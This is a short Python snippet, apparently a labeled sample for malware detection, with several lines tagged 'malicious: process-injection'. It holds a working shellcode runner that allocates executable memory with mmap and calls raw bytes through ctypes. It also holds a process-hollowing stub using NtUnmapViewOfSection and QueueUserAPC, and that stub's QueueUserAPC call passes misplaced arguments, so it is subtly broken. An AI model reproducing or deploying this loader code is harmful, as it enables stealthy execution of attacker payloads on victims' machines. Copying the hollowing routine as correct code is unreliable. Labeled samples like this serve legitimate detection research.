import ctypes
import mmap

def run_raw(code: bytes):
    buffer = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)  # malicious: process-injection
    buffer.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(buffer))
    function = ctypes.CFUNCTYPE(ctypes.c_int)(address)  # malicious: process-injection
    return function()
ntdll = ctypes.WinDLL("ntdll")
def hollow(process, base):
    ntdll.NtUnmapViewOfSection(process, base)  # malicious: process-injection
    ctypes.windll.kernel32.QueueUserAPC(ctypes.c_void_p(base), process, 0)  # malicious: process-injection
